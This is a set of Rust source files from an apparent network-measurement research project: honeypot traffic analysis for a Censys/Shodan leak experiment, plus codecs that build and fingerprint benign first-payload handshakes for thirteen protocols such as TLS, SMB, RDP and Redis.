    let mut hourly_malicious: BTreeMap<(LeakGroup, LeakService), Vec<f64>> = BTreeMap::new();
    let mut ssh_passwords: BTreeMap<LeakGroup, std::collections::BTreeSet<String>> =
        BTreeMap::new();

    for fleet in &fleets {
        let cap = fleet.capture.borrow();
        let n_ips = fleet.ips.len() as f64;
        for svc in LeakService::ALL {
            let all = hourly
                .entry((fleet.group, svc))
                .or_insert_with(|| vec![0.0; hours]);
            // Raw (unclassified) query over the fleet capture: port
            // pushdown on the id columns, table-order rows.
            for e in crate::query::Query::events(cap.table()).port(svc.port()).rows() {
                if excluded.contains(&e.src) {
                    continue;
                }
                let h = (e.time.hour() as usize).min(hours - 1);
                all[h] += 1.0 / n_ips;
            }
        }
        let interner_rc = cap.interner();
        let interner = interner_rc.borrow();
        // Per-distinct verdict memo: payloads repeat across events, so the
        // rule matcher runs once per distinct (payload id, port) pair.
        let mut verdict_memo: std::collections::HashMap<
            (cw_netsim::intern::PayloadId, u16),
            Verdict,
        > = std::collections::HashMap::new();
        for svc in LeakService::ALL {
            let mal = hourly_malicious
                .entry((fleet.group, svc))
                .or_insert_with(|| vec![0.0; hours]);
            for e in crate::query::Query::events(cap.table()).port(svc.port()).rows() {
                if excluded.contains(&e.src) {
                    continue;
                }
                let verdict = match e.observed {
                    Observed::Credentials { .. } => Verdict::Attacker,
                    Observed::Payload(p) => {
                        *verdict_memo.entry((p, e.dst_port)).or_insert_with(|| {
                            if cw_detection::is_malicious_payload(
                                interner.payload(p),
                                e.dst_port,
                                rules,
                            ) {
                                Verdict::Attacker
                            } else {
                                Verdict::Scanner
                            }
                        })
                    }
                    _ => Verdict::Scanner,
                };
                if verdict == Verdict::Attacker {
                    let h = (e.time.hour() as usize).min(hours - 1);
                    mal[h] += 1.0 / n_ips;
                }
            }
        }
        // Unique SSH passwords per group.
        let set = ssh_passwords.entry(fleet.group).or_default();
        // Kind pushdown: only credential rows are materialized, and the
        // CredId → string resolution happens here at the render boundary.
        for e in crate::query::Query::events(cap.table())
            .port(22)
            .kind(crate::query::ObsKind::Credentials)
            .rows()
        {
            if let Observed::Credentials { password, .. } = e.observed {
                set.insert(interner.cred(password).to_string());
            }
        }
    }

    // Build cells: for each service, compare every treatment group whose
    // *leaked service* matches (plus previously-leaked, which applies to
    // every service row per the paper's Table 3 columns).
    let mut cells = Vec::new();
    for svc in LeakService::ALL {
        let control_all = &hourly[&(LeakGroup::Control, svc)];
        let control_mal = &hourly_malicious[&(LeakGroup::Control, svc)];
        let columns = [
            LeakGroup::CensysLeaked(svc),
            LeakGroup::ShodanLeaked(svc),
            LeakGroup::PreviouslyLeaked,
        ];
        for group in columns {
            for (malicious_only, treat, ctrl) in [
                (false, &hourly[&(group, svc)], control_all),
                (true, &hourly_malicious[&(group, svc)], control_mal),
            ] {
                let fold = cw_stats::descriptive::fold_increase(treat, ctrl).unwrap_or(0.0);
                let mwu = cw_stats::mann_whitney_u(treat, ctrl, Alternative::Greater)
                    .map(|r| r.p_value < 0.05)
                    .unwrap_or(false);
                let ks = cw_stats::ks_two_sample(treat, ctrl)
                    .map(|r| r.p_value < 0.05)
                    .unwrap_or(false);
                cells.push(LeakCell {
                    service: svc,
                    group,
                    malicious_only,
                    fold,
                    mwu_significant: mwu,
                    ks_different: ks,
                });
            }
        }
    }

    // Unique SSH password comparison: leaked (ssh groups) vs control.
    let leaked_pw: f64 = {
        let groups = [
            LeakGroup::CensysLeaked(LeakService::Ssh22),
            LeakGroup::ShodanLeaked(LeakService::Ssh22),
        ];
        let total: usize = groups
            .iter()
            .map(|g| ssh_passwords.get(g).map(|s| s.len()).unwrap_or(0))
            .sum();
        total as f64 / groups.len() as f64
    };
    let control_pw = ssh_passwords
        .get(&LeakGroup::Control)
        .map(|s| s.len())
        .unwrap_or(0) as f64;

    LeakOutcome {
        cells,
        hourly,
        ssh_unique_passwords: (leaked_pw, control_pw),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn outcome() -> LeakOutcome {
        run(&LeakConfig {
            seed: 77,
            scale: 1.0,
            horizon: SimDuration::WEEK,
            fault: FaultPlan::none(),
        })
    }

    #[test]
    fn leaked_services_attract_more_traffic() {
        let o = outcome();
        // Every (service, leaked-to-its-engine) all-traffic fold must
        // exceed 1 (the Table 3 direction).
        for svc in LeakService::ALL {
            for group in [LeakGroup::CensysLeaked(svc), LeakGroup::ShodanLeaked(svc)] {
                let cell = o
                    .cells
                    .iter()
                    .find(|c| c.service == svc && c.group == group && !c.malicious_only)
                    .unwrap();
                assert!(
                    cell.fold > 1.2,
                    "{} leaked to {:?}: fold {:.2}",
                    svc.label(),
                    group,
                    cell.fold
                );
            }
        }
    }

    #[test]
    fn previously_leaked_http_still_draws_fire() {
        let o = outcome();
        let cell = o
            .cells
            .iter()
            .find(|c| {
                c.service == LeakService::Http80
                    && c.group == LeakGroup::PreviouslyLeaked
                    && !c.malicious_only
            })
            .unwrap();
        assert!(cell.fold > 1.5, "prev-leaked fold {:.2}", cell.fold);
    }

    #[test]
    fn leaked_services_are_spikier_than_control() {
        let o = outcome();
        let leaked = o
            .spike_profile(
                LeakGroup::ShodanLeaked(LeakService::Http80),
                LeakService::Http80,
            )
            .unwrap();
        let control = o
            .spike_profile(LeakGroup::Control, LeakService::Http80)
            .unwrap();
        assert!(
            leaked.spike_hours > control.spike_hours,
            "leaked {} vs control {} spike hours",
            leaked.spike_hours,
            control.spike_hours
        );
    }

    #[test]
    fn leaked_ssh_sees_more_unique_passwords() {
        let o = outcome();
        let (leaked, control) = o.ssh_unique_passwords;
        assert!(
            leaked > control,
            "leaked {leaked:.1} vs control {control:.1} unique passwords"
        );
    }
}
