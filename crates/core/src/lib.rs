//! # cw-core
//!
//! The paper's contribution: the statistically rigorous measurement
//! pipeline that turns raw honeypot/telescope captures into the published
//! tables and figures.
//!
//! - [`scenario`] — builds the world (Table 1 fleet + actor population) for
//!   a year and runs the one-week collection window;
//! - [`dataset`] — the queryable event store, traffic slices
//!   (SSH/22, Telnet/23, HTTP/80, HTTP/All-Ports), and CSV/JSONL export
//!   (the "released dataset");
//! - [`query`] — the typed filter → group → aggregate builder over the
//!   columnar store: predicates push down onto the `Copy` ID columns and
//!   string resolution stays at the render boundary (`docs/QUERY.md`);
//! - [`axes`] — who / what / why extraction: top ASes, top usernames and
//!   passwords, top normalized payloads, fraction malicious;
//! - [`compare`] — the §3.3 comparison procedure: top-3 union contingency
//!   tables, chi-squared with Bonferroni correction, Cramér's V with
//!   df-aware magnitudes, plus the §4.4 median-across-honeypots filter;
//! - [`neighborhood`] — Table 2 / Table 12: do neighboring identical
//!   services see different traffic?
//! - [`geography`] — Tables 4, 5, 13, 16: regional discrimination;
//! - [`network`] — Tables 7, 10, 14, 15: cloud vs education vs telescope;
//! - [`overlap`] — Tables 8, 9: who avoids the telescope, per port;
//! - [`leak`] — Table 3: the Censys/Shodan leak experiment;
//! - [`ports`] — Tables 11, 17 and the §3.2 traffic-composition stats;
//! - [`figure1`] — the address-structure series of Figure 1;
//! - [`report`] — text table rendering shared by the experiment binaries;
//! - [`fleet`] — the parallel scenario fleet runner: independent runs
//!   spread across worker threads with per-run seeds split from the master
//!   seed, bit-identical for any thread count (see
//!   `docs/ARCHITECTURE.md`);
//! - [`bundle`] — the `Send + Sync` analysis subset of one simulation,
//!   shareable across fleet workers and serializable;
//! - [`snapshot`] — the content-addressed simulate-once cache: each
//!   distinct (year, seed, scale, horizon, fault plan) world is simulated
//!   once and every later exhibit render deserializes it from
//!   `out/.cache`;
//! - [`exhibit`] — the unified registry of all 25 tables/figures/ablations
//!   as pure renders over shared [`SimBundle`]s (the `cw` CLI's backend);
//! - [`degrade`] — the `cw degrade` sweep: re-evaluates the headline
//!   findings under a ladder of deterministic fault plans
//!   ([`cw_netsim::fault`]) and reports their stability.

#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod axes;
pub mod bundle;
pub mod compare;
pub mod dataset;
pub mod degrade;
pub mod exhibit;
pub mod figure1;
pub mod fleet;
pub mod geography;
pub mod leak;
pub mod neighborhood;
pub mod network;
pub mod overlap;
pub mod ports;
pub mod query;
pub mod recommendations;
pub mod report;
pub mod scenario;
pub mod snapshot;
pub mod sweep;
pub mod temporal;

pub use bundle::SimBundle;
pub use compare::{CharKind, GroupComparison};
pub use dataset::{Dataset, TrafficSlice};
pub use query::{Plan, PlanError, PlanResult, PlanSet, PlanStore, Query, ScanExec};
pub use scenario::{Scenario, ScenarioConfig};

/// `docs/QUERY.md` compiled as doctests: every `rust` block in the query
/// guide is built and run by `cargo test --doc`, so the guide cannot
/// drift from the API it documents.
#[cfg(doctest)]
#[doc = include_str!("../../../docs/QUERY.md")]
pub struct QueryGuideDoctests;
