//! LZR-style first-payload protocol fingerprinting (§6 methodology).
//!
//! Given the first client payload observed on a connection, identify which
//! of the 13 protocols the client is actually speaking — independent of the
//! destination port. Detectors run in a fixed priority order chosen so that
//! overlapping textual formats (HTTP vs RTSP vs SIP) disambiguate on their
//! version token, exactly as LZR's handshake matchers do.

use crate::id::ProtocolId;
use crate::{adb, fox, http, ntp, rdp, redis, rtsp, sip, smb, sql, ssh, telnet, tls};

/// Identify the protocol of a first payload, or `None` if unrecognized.
/// # Example
///
/// ```
/// use cw_protocols::{fingerprint, ProtocolId};
///
/// // A TLS ClientHello sent to an HTTP port is still TLS.
/// let hello = cw_protocols::tls::build_client_hello(1, None);
/// assert_eq!(fingerprint(&hello), Some(ProtocolId::Tls));
/// assert_eq!(fingerprint(b"GET / HTTP/1.1\r\n\r\n"), Some(ProtocolId::Http));
/// assert_eq!(fingerprint(b"random bytes"), None);
/// ```
pub fn fingerprint(payload: &[u8]) -> Option<ProtocolId> {
    if payload.is_empty() {
        return None;
    }
    for proto in ProtocolId::ALL {
        let hit = match proto {
            ProtocolId::Tls => tls::is_client_hello(payload),
            ProtocolId::Http => http::looks_like_http(payload),
            ProtocolId::Rtsp => rtsp::is_rtsp(payload),
            ProtocolId::Sip => sip::is_sip(payload),
            ProtocolId::Ssh => ssh::is_ssh_banner(payload),
            ProtocolId::Smb => smb::is_smb(payload),
            ProtocolId::Rdp => rdp::is_rdp(payload),
            ProtocolId::Adb => adb::is_adb(payload),
            ProtocolId::Fox => fox::is_fox(payload),
            ProtocolId::Redis => redis::is_redis(payload),
            ProtocolId::Sql => sql::is_sql(payload),
            ProtocolId::Ntp => ntp::is_ntp(payload),
            ProtocolId::Telnet => telnet::is_telnet_negotiation(payload),
        };
        if hit {
            return Some(proto);
        }
    }
    None
}

/// Was the payload's fingerprinted protocol different from the port's
/// IANA-assigned protocol? (`None` when either side is unknown.)
pub fn is_unexpected(payload: &[u8], port: u16) -> Option<bool> {
    let actual = fingerprint(payload)?;
    let assigned = crate::iana::assigned_protocol(port)?;
    Some(actual != assigned)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One canonical payload per protocol.
    fn samples() -> Vec<(ProtocolId, Vec<u8>)> {
        vec![
            (
                ProtocolId::Http,
                http::HttpRequest::new("GET", "/").header("Host", "x").to_bytes(),
            ),
            (ProtocolId::Tls, tls::build_client_hello(1, Some("h"))),
            (ProtocolId::Ssh, ssh::build_banner("OpenSSH_8.9")),
            (ProtocolId::Telnet, telnet::build_negotiation(&[1, 3])),
            (ProtocolId::Smb, smb::build_negotiate()),
            (
                ProtocolId::Rtsp,
                rtsp::build_request("OPTIONS", "rtsp://10.0.0.1/"),
            ),
            (ProtocolId::Sip, sip::build_options("100@10.0.0.1")),
            (ProtocolId::Ntp, ntp::build_client_request()),
            (ProtocolId::Rdp, rdp::build_connection_request("hello")),
            (ProtocolId::Adb, adb::build_connect()),
            (ProtocolId::Fox, fox::build_hello()),
            (ProtocolId::Redis, redis::build_command(&["INFO"])),
            (ProtocolId::Sql, sql::build_prelogin()),
        ]
    }

    #[test]
    fn every_protocol_fingerprints_to_itself() {
        for (expect, payload) in samples() {
            assert_eq!(
                fingerprint(&payload),
                Some(expect),
                "payload for {expect} misidentified"
            );
        }
    }

    #[test]
    fn garbage_is_unidentified() {
        assert_eq!(fingerprint(b""), None);
        assert_eq!(fingerprint(b"\x00\x01\x02\x03"), None);
        assert_eq!(fingerprint(b"hello world"), None);
    }

    #[test]
    fn unexpected_protocol_on_http_port() {
        let tls = tls::build_client_hello(2, None);
        assert_eq!(is_unexpected(&tls, 80), Some(true));
        let http = http::HttpRequest::new("GET", "/").to_bytes();
        assert_eq!(is_unexpected(&http, 80), Some(false));
        assert_eq!(is_unexpected(&http, 12345), None); // unassigned port
        assert_eq!(is_unexpected(b"garbage", 80), None); // unknown protocol
    }

    #[test]
    fn truncated_payloads_never_panic() {
        for (_, payload) in samples() {
            for cut in 0..payload.len().min(64) {
                let _ = fingerprint(&payload[..cut]);
            }
        }
    }
}
