//! Niagara Fox: the building-automation hello exchanged on ports 1911/4911.

/// Build a Fox hello message.
pub fn build_hello() -> Vec<u8> {
    b"fox a 0 -1 fox hello\n{\nfox.version=s:1.0\n};;\n".to_vec()
}

/// Does this first payload look like Niagara Fox?
pub fn is_fox(payload: &[u8]) -> bool {
    payload.starts_with(b"fox ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        assert!(is_fox(&build_hello()));
    }

    #[test]
    fn rejects_others() {
        assert!(!is_fox(b"foxtrot"));
        assert!(!is_fox(b"GET / HTTP/1.1"));
    }
}
