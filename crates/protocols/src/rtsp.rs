//! RTSP (RFC 2326): OPTIONS/DESCRIBE probes, the camera-scanner staple.

/// Build an RTSP request.
pub fn build_request(method: &str, target: &str) -> Vec<u8> {
    format!("{method} {target} RTSP/1.0\r\nCSeq: 1\r\n\r\n").into_bytes()
}

/// Does this first payload look like an RTSP request?
pub fn is_rtsp(payload: &[u8]) -> bool {
    let line_end = payload
        .iter()
        .position(|&b| b == b'\r' || b == b'\n')
        .unwrap_or(payload.len());
    match std::str::from_utf8(&payload[..line_end]) {
        Ok(line) => line.ends_with("RTSP/1.0") && line.split(' ').count() >= 3,
        Err(_) => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let p = build_request("OPTIONS", "rtsp://10.0.0.1/");
        assert!(is_rtsp(&p));
    }

    #[test]
    fn not_confused_with_http() {
        assert!(!is_rtsp(b"GET / HTTP/1.1\r\n\r\n"));
        assert!(!crate::http::looks_like_http(&build_request(
            "DESCRIBE",
            "rtsp://x/"
        )));
    }
}
