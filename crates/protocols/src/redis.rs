//! Redis RESP: the unauthenticated-Redis probes cryptominer campaigns send.

/// Build a RESP array command, e.g. `["INFO"]` or `["CONFIG","GET","*"]`.
pub fn build_command(args: &[&str]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", args.len()).into_bytes();
    for a in args {
        out.extend_from_slice(format!("${}\r\n{a}\r\n", a.len()).as_bytes());
    }
    out
}

/// Does this first payload look like a RESP command (or inline `PING`)?
pub fn is_redis(payload: &[u8]) -> bool {
    (payload.len() >= 4
        && payload[0] == b'*'
        && payload[1].is_ascii_digit()
        && crate::http::find_subslice(payload, b"\r\n$").is_some())
        || payload.starts_with(b"PING\r\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let p = build_command(&["CONFIG", "GET", "*"]);
        assert_eq!(&p[..4], b"*3\r\n");
        assert!(is_redis(&p));
        assert!(is_redis(b"PING\r\n"));
    }

    #[test]
    fn rejects_others() {
        assert!(!is_redis(b"* hello"));
        assert!(!is_redis(b"GET / HTTP/1.1"));
    }
}
