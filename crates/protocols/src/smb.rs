//! SMB: NetBIOS-framed SMB1/SMB2 negotiate requests.

/// Build a minimal SMB1 Negotiate Protocol request with NetBIOS session
/// framing (what `smbclient`-era scanners and EternalBlue probes send).
pub fn build_negotiate() -> Vec<u8> {
    // SMB1 header: \xFFSMB + command 0x72 (Negotiate) + zeroed fields.
    let mut smb = Vec::new();
    smb.extend_from_slice(b"\xffSMB");
    smb.push(0x72);
    smb.extend_from_slice(&[0u8; 27]); // status, flags, extra, tid, pid, uid, mid
    smb.push(0x00); // word count
    let dialect = b"\x02NT LM 0.12\x00";
    smb.extend_from_slice(&(dialect.len() as u16).to_le_bytes());
    smb.extend_from_slice(dialect);

    // NetBIOS session header: type 0 + 24-bit length.
    let mut out = Vec::with_capacity(smb.len() + 4);
    out.push(0x00);
    let len = smb.len() as u32;
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8]);
    out.extend_from_slice(&smb);
    out
}

/// Does this first payload look like SMB (SMB1 `\xFFSMB` or SMB2 `\xFESMB`
/// at the NetBIOS payload offset, or unframed)?
pub fn is_smb(payload: &[u8]) -> bool {
    let magic = |b: &[u8]| b.starts_with(b"\xffSMB") || b.starts_with(b"\xfeSMB");
    magic(payload) || (payload.len() > 8 && magic(&payload[4..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn negotiate_is_detected() {
        let p = build_negotiate();
        assert!(is_smb(&p));
        // NetBIOS length field matches.
        let len = ((p[1] as usize) << 16) | ((p[2] as usize) << 8) | p[3] as usize;
        assert_eq!(len, p.len() - 4);
    }

    #[test]
    fn unframed_and_smb2_magic() {
        assert!(is_smb(b"\xffSMBrest"));
        assert!(is_smb(b"\xfeSMBrest"));
        assert!(!is_smb(b"GET / HTTP/1.1"));
        assert!(!is_smb(b""));
    }
}
