//! Minimal TLS: building and recognizing ClientHello first payloads.
//!
//! §6 finds that 7% of scanners hitting HTTP-assigned ports actually speak
//! TLS — their first payload is a ClientHello record. We build a real,
//! structurally-valid ClientHello (record layer + handshake + optional SNI)
//! and detect one the way LZR does.

/// Build a minimal TLS 1.2 ClientHello with a deterministic `random` field
/// and an optional SNI host name.
pub fn build_client_hello(seed: u64, sni: Option<&str>) -> Vec<u8> {
    // client_random: deterministic from seed.
    let mut random = [0u8; 32];
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    for chunk in random.chunks_mut(8) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        for (i, b) in chunk.iter_mut().enumerate() {
            *b = (x >> (8 * i)) as u8;
        }
    }

    // Extensions.
    let mut extensions = Vec::new();
    if let Some(host) = sni {
        let name = host.as_bytes();
        // server_name extension (type 0).
        let mut ext = Vec::new();
        ext.extend_from_slice(&[0x00, 0x00]); // extension type
        let list_len = name.len() + 3;
        let ext_len = list_len + 2;
        ext.extend_from_slice(&(ext_len as u16).to_be_bytes());
        ext.extend_from_slice(&(list_len as u16).to_be_bytes());
        ext.push(0x00); // host_name type
        ext.extend_from_slice(&(name.len() as u16).to_be_bytes());
        ext.extend_from_slice(name);
        extensions.extend_from_slice(&ext);
    }

    // Handshake body.
    let cipher_suites: [u8; 8] = [0x13, 0x01, 0x13, 0x02, 0xC0, 0x2F, 0x00, 0x9C];
    let mut body = Vec::new();
    body.extend_from_slice(&[0x03, 0x03]); // client_version TLS 1.2
    body.extend_from_slice(&random);
    body.push(0x00); // session_id length
    body.extend_from_slice(&(cipher_suites.len() as u16).to_be_bytes());
    body.extend_from_slice(&cipher_suites);
    body.push(0x01); // compression methods length
    body.push(0x00); // null compression
    body.extend_from_slice(&(extensions.len() as u16).to_be_bytes());
    body.extend_from_slice(&extensions);

    // Handshake header: type 1 (ClientHello) + 24-bit length.
    let mut handshake = Vec::with_capacity(body.len() + 4);
    handshake.push(0x01);
    let len = body.len() as u32;
    handshake.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8]);
    handshake.extend_from_slice(&body);

    // Record layer: content type 22 (handshake), version 3.1.
    let mut record = Vec::with_capacity(handshake.len() + 5);
    record.push(0x16);
    record.extend_from_slice(&[0x03, 0x01]);
    record.extend_from_slice(&(handshake.len() as u16).to_be_bytes());
    record.extend_from_slice(&handshake);
    record
}

/// Does this first payload look like a TLS ClientHello?
pub fn is_client_hello(payload: &[u8]) -> bool {
    payload.len() >= 6
        && payload[0] == 0x16        // handshake record
        && payload[1] == 0x03        // SSL3/TLS major version
        && payload[2] <= 0x04        // minor version 0..4
        && payload[5] == 0x01 // ClientHello handshake type
}

/// Extract the SNI host name from a ClientHello, if present.
pub fn extract_sni(payload: &[u8]) -> Option<String> {
    if !is_client_hello(payload) {
        return None;
    }
    // Walk: record(5) + hs type(1) + hs len(3) + version(2) + random(32).
    let mut i = 5 + 4 + 2 + 32;
    let sid_len = *payload.get(i)? as usize;
    i += 1 + sid_len;
    let cs_len = u16::from_be_bytes([*payload.get(i)?, *payload.get(i + 1)?]) as usize;
    i += 2 + cs_len;
    let comp_len = *payload.get(i)? as usize;
    i += 1 + comp_len;
    let ext_total = u16::from_be_bytes([*payload.get(i)?, *payload.get(i + 1)?]) as usize;
    i += 2;
    let end = i + ext_total;
    while i + 4 <= end.min(payload.len()) {
        let ext_type = u16::from_be_bytes([payload[i], payload[i + 1]]);
        let ext_len = u16::from_be_bytes([payload[i + 2], payload[i + 3]]) as usize;
        i += 4;
        if ext_type == 0 && ext_len >= 5 {
            // server_name_list: skip list length (2) + name type (1).
            let name_len =
                u16::from_be_bytes([*payload.get(i + 3)?, *payload.get(i + 4)?]) as usize;
            let name = payload.get(i + 5..i + 5 + name_len)?;
            return String::from_utf8(name.to_vec()).ok();
        }
        i += ext_len;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn built_hello_is_detected() {
        let hello = build_client_hello(1, None);
        assert!(is_client_hello(&hello));
    }

    #[test]
    fn sni_round_trips() {
        let hello = build_client_hello(2, Some("victim.example"));
        assert!(is_client_hello(&hello));
        assert_eq!(extract_sni(&hello).as_deref(), Some("victim.example"));
    }

    #[test]
    fn no_sni_extracts_none() {
        let hello = build_client_hello(3, None);
        assert_eq!(extract_sni(&hello), None);
    }

    #[test]
    fn deterministic_per_seed() {
        assert_eq!(build_client_hello(7, None), build_client_hello(7, None));
        assert_ne!(build_client_hello(7, None), build_client_hello(8, None));
    }

    #[test]
    fn detection_rejects_non_tls() {
        assert!(!is_client_hello(b"GET / HTTP/1.1\r\n\r\n"));
        assert!(!is_client_hello(b"SSH-2.0-x\r\n"));
        assert!(!is_client_hello(&[0x16, 0x03]));
        // Handshake record but ServerHello (type 2) — not a client payload.
        assert!(!is_client_hello(&[0x16, 0x03, 0x03, 0x00, 0x05, 0x02, 0, 0, 0, 0]));
    }

    #[test]
    fn extract_sni_never_panics_on_truncation() {
        let hello = build_client_hello(4, Some("a.b"));
        for cut in 0..hello.len() {
            let _ = extract_sni(&hello[..cut]);
        }
    }
}
