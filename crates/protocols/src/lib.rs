//! # cw-protocols
//!
//! Wire formats for the 13 TCP scanning protocols the paper's §6 analysis
//! fingerprints with LZR: HTTP, TLS, SSH, Telnet, SMB, RTSP, SIP, NTP, RDP,
//! ADB, FOX, Redis, and SQL.
//!
//! Every codec works on real bytes: scanner agents *build* first payloads
//! with these modules, honeypots and the rule engine *parse* them, and
//! [`fingerprint()`] identifies the protocol of an arbitrary first payload the
//! way LZR does — which is how the §6 pipeline discovers that ≥15% of
//! traffic to ports 80/8080 is not HTTP at all.
//!
//! [`iana`] provides the port → assigned-protocol table that telescopes and
//! naive honeypots implicitly assume, and [`http::normalize`] implements the
//! §3.3 payload normalization (dropping Date / Host / Content-Length) used
//! before payload comparison.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod adb;
pub mod fingerprint;
pub mod fox;
pub mod http;
pub mod iana;
pub mod id;
pub mod ntp;
pub mod rdp;
pub mod redis;
pub mod rtsp;
pub mod sip;
pub mod smb;
pub mod sql;
pub mod ssh;
pub mod telnet;
pub mod tls;

pub use fingerprint::fingerprint;
pub use http::HttpRequest;
pub use iana::assigned_protocol;
pub use id::ProtocolId;
