//! The IANA port → protocol assignment table (for the ports this study
//! touches) and the deployment's "assigned service" convention.
//!
//! Telescopes that do not collect payloads "rely on the destination port to
//! derive the target protocol" (§6) — that inference is exactly this table.
//! The §6 result is that the inference is wrong for ≥15% of traffic.

use crate::id::ProtocolId;

/// The protocol IANA (or strong convention, for 2222/2323/8080) assigns to
/// a TCP port, if the study tracks it.
pub fn assigned_protocol(port: u16) -> Option<ProtocolId> {
    Some(match port {
        21 => return None, // FTP: observed but not one of the 13 fingerprints
        22 | 2222 => ProtocolId::Ssh,
        23 | 2323 => ProtocolId::Telnet,
        80 | 8080 | 8000 | 8888 => ProtocolId::Http,
        123 => ProtocolId::Ntp,
        443 | 8443 => ProtocolId::Tls,
        445 | 139 => ProtocolId::Smb,
        554 => ProtocolId::Rtsp,
        1433 | 3306 => ProtocolId::Sql,
        1911 | 4911 => ProtocolId::Fox,
        3389 => ProtocolId::Rdp,
        5060 | 5061 => ProtocolId::Sip,
        5555 => ProtocolId::Adb,
        6379 => ProtocolId::Redis,
        _ => return None,
    })
}

/// Ports the GreyNoise sensors run interactive (Cowrie) services on.
pub const COWRIE_PORTS: [u16; 4] = [22, 2222, 23, 2323];

/// The "top ten most consistently targeted ports" used by the overlap
/// analyses (Tables 8–9) — the paper's list.
pub const POPULAR_PORTS: [u16; 10] = [23, 2323, 80, 8080, 21, 2222, 25, 7547, 22, 443];

/// Is this port SSH-assigned by the deployment convention (22 or 2222)?
pub fn is_ssh_assigned(port: u16) -> bool {
    matches!(port, 22 | 2222)
}

/// Is this port Telnet-assigned by the deployment convention (23 or 2323)?
pub fn is_telnet_assigned(port: u16) -> bool {
    matches!(port, 23 | 2323)
}

/// Is this port HTTP-assigned (80 / 8080 / 8000 / 8888)?
pub fn is_http_assigned(port: u16) -> bool {
    assigned_protocol(port) == Some(ProtocolId::Http)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn assignments_cover_study_ports() {
        assert_eq!(assigned_protocol(22), Some(ProtocolId::Ssh));
        assert_eq!(assigned_protocol(2222), Some(ProtocolId::Ssh));
        assert_eq!(assigned_protocol(23), Some(ProtocolId::Telnet));
        assert_eq!(assigned_protocol(80), Some(ProtocolId::Http));
        assert_eq!(assigned_protocol(8080), Some(ProtocolId::Http));
        assert_eq!(assigned_protocol(443), Some(ProtocolId::Tls));
        assert_eq!(assigned_protocol(445), Some(ProtocolId::Smb));
        assert_eq!(assigned_protocol(3389), Some(ProtocolId::Rdp));
        assert_eq!(assigned_protocol(12345), None);
    }

    #[test]
    fn convention_predicates() {
        assert!(is_ssh_assigned(22) && is_ssh_assigned(2222));
        assert!(!is_ssh_assigned(23));
        assert!(is_telnet_assigned(23) && is_telnet_assigned(2323));
        assert!(is_http_assigned(80) && is_http_assigned(8080));
        assert!(!is_http_assigned(443));
    }

    #[test]
    fn popular_ports_include_table8_rows() {
        for p in [23, 2323, 80, 8080, 21, 2222, 25, 7547, 22, 443] {
            assert!(POPULAR_PORTS.contains(&p));
        }
    }
}
