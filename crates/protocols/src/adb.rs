//! Android Debug Bridge: the `CNXN` handshake abused by cryptominer
//! campaigns against exposed ADB (port 5555).

/// Build an ADB CONNECT message (24-byte header + system identity).
pub fn build_connect() -> Vec<u8> {
    let ident = b"host::\x00";
    let mut p = Vec::with_capacity(24 + ident.len());
    p.extend_from_slice(b"CNXN"); // command
    p.extend_from_slice(&0x0100_0000u32.to_le_bytes()); // version
    p.extend_from_slice(&(256 * 1024u32).to_le_bytes()); // maxdata
    p.extend_from_slice(&(ident.len() as u32).to_le_bytes());
    let checksum: u32 = ident.iter().map(|&b| b as u32).sum();
    p.extend_from_slice(&checksum.to_le_bytes());
    p.extend_from_slice(&0xFFFF_FFB6u32.to_le_bytes()); // magic = cmd ^ 0xFFFFFFFF
    p.extend_from_slice(ident);
    p
}

/// Does this first payload look like an ADB CONNECT?
pub fn is_adb(payload: &[u8]) -> bool {
    payload.len() >= 24 && payload.starts_with(b"CNXN")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        assert!(is_adb(&build_connect()));
    }

    #[test]
    fn rejects_others() {
        assert!(!is_adb(b"CNXN")); // header must be complete
        assert!(!is_adb(b"GET / HTTP/1.1\r\nlong enough padding here"));
    }
}
