//! RDP: TPKT-framed X.224 Connection Request with the `mstshash` cookie.

/// Build an RDP connection request for the given cookie user.
pub fn build_connection_request(user: &str) -> Vec<u8> {
    let cookie = format!("Cookie: mstshash={user}\r\n");
    let x224_len = 6 + cookie.len(); // LI + CR fields + cookie
    let total = 4 + 1 + x224_len; // TPKT header + LI byte + body
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x03, 0x00]); // TPKT version 3, reserved
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.push(x224_len as u8); // X.224 length indicator
    p.push(0xE0); // CR — connection request
    p.extend_from_slice(&[0x00, 0x00, 0x00, 0x00, 0x00]); // dst/src ref, class
    p.extend_from_slice(cookie.as_bytes());
    p
}

/// Does this first payload look like an RDP connection request?
pub fn is_rdp(payload: &[u8]) -> bool {
    payload.len() >= 7 && payload[0] == 0x03 && payload[1] == 0x00 && payload[5] == 0xE0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let p = build_connection_request("admin");
        assert!(is_rdp(&p));
        // TPKT length field equals total length.
        let len = u16::from_be_bytes([p[2], p[3]]) as usize;
        assert_eq!(len, p.len());
    }

    #[test]
    fn rejects_others() {
        assert!(!is_rdp(b"GET / HTTP/1.1"));
        assert!(!is_rdp(&[0x03, 0x00, 0x00])); // truncated
        // TPKT but not a connection request.
        assert!(!is_rdp(&[0x03, 0x00, 0x00, 0x08, 0x02, 0xF0, 0x80]));
    }
}
