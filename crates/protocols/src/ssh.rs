//! SSH identification strings (RFC 4253 §4.2).
//!
//! SSH clients send their version banner immediately after the TCP
//! handshake, so first-payload collectors see `SSH-2.0-…\r\n`.

/// Build a client identification banner for the given software name.
pub fn build_banner(software: &str) -> Vec<u8> {
